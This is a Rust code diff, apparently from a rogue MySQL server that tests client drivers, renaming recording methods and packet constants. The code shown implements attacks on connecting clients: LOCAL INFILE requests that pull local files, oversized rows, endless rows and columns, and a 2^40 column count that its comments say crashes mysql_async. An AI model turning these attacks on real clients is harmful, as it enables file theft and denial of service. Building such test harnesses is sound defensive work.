@@ -26,19 +26,19 @@ pub(super) async fn run_attack<S: AsyncRead + AsyncWrite + Unpin>(
         | RogueAttack::ClearPassword
         | RogueAttack::OldPassword
         | RogueAttack::Sha256Password => return Ok(false),
-        _ => recording.record_attack(),
+        _ => recording.increment_attack_count(),
     }
     match mode {
         RogueAttack::LocalInfile(path) => request_local_file(stream, path, recording).await?,
         RogueAttack::HugePacket { bytes } => send_huge_row(stream, columns, *bytes, recording).await?,
         RogueAttack::EndlessRows => send_endless_rows(stream, columns, recording).await?,
         RogueAttack::EndlessColumns => {
-            write_packet(stream, 1, &ENDLESS_COLUMN_COUNT).await?;
+            write_packet(stream, 1, &ADVERTISED_COLUMN_COUNT_PACKET).await?;
             let column = packets::encode_column_definition(&"c".repeat(64));
             send_packet_repeatedly(stream, 2, &column, recording).await?;
         }
         RogueAttack::HugeColumnCount => {
-            write_packet(stream, 1, &HUGE_COLUMN_COUNT).await?;
+            write_packet(stream, 1, &HUGE_COLUMN_COUNT_PACKET).await?;
             stream.flush().await?;
             wait_for_disconnect(stream).await?;
         }
@@ -49,10 +49,10 @@ pub(super) async fn run_attack<S: AsyncRead + AsyncWrite + Unpin>(
 
 /// Length-encoded integer 2^23 (three bytes after the prefix), sent as the column count.
 /// A MySQL driver can allocate memory for 2^23 columns, but the column definitions never end.
-const ENDLESS_COLUMN_COUNT: [u8; 4] = [0xfd, 0, 0, 0x80];
+const ADVERTISED_COLUMN_COUNT_PACKET: [u8; 4] = [0xfd, 0, 0, 0x80];
 /// Length-encoded integer 2^40 (eight bytes after the prefix), sent as the column count.
 /// For 2^40 columns, `mysql_async` tries to allocate 32 TiB, which aborts the client process.
-const HUGE_COLUMN_COUNT: [u8; 9] = [0xfe, 0, 0, 0, 0, 0, 1, 0, 0];
+const HUGE_COLUMN_COUNT_PACKET: [u8; 9] = [0xfe, 0, 0, 0, 0, 0, 1, 0, 0];
 
 /// Requests a local file from the client and records the received file content as packets.
 async fn request_local_file<S: AsyncRead + AsyncWrite + Unpin>(
@@ -67,7 +67,7 @@ async fn request_local_file<S: AsyncRead + AsyncWrite + Unpin>(
         if chunk.is_empty() {
             return write_packet(stream, sequence.wrapping_add(1), &packets::OK_PACKET).await;
         }
-        recording.record_packet(chunk);
+        recording.append_client_packet(chunk);
     }
 }
 
@@ -93,7 +93,7 @@ async fn send_huge_row<S: AsyncRead + AsyncWrite + Unpin>(
             let source = if start.is_empty() { &filler } else { &start };
             let chunk = source.get(..source.len().min(unsent)).unwrap_or_default();
             stream.write_all(chunk).await?;
-            recording.record_sent_bytes(chunk.len());
+            recording.add_sent_bytes(chunk.len());
             unsent -= chunk.len();
             start.clear();
         }
@@ -128,7 +128,7 @@ async fn send_packet_repeatedly<S: AsyncRead + AsyncWrite + Unpin>(
 ) -> io::Result<()> {
     loop {
         write_packet(stream, sequence, payload).await?;
-        recording.record_sent_bytes(payload.len());
+        recording.add_sent_bytes(payload.len());
         sequence = sequence.wrapping_add(1);
     }
 }
@@ -149,7 +149,7 @@ async fn send_random_bytes<S: AsyncRead + AsyncWrite + Unpin>(
         .take(ATTACK_CHUNK_BYTES)
         .collect();
         stream.write_all(&chunk).await?;
-        recording.record_sent_bytes(chunk.len());
+        recording.add_sent_bytes(chunk.len());
     }
     stream.shutdown().await
 }
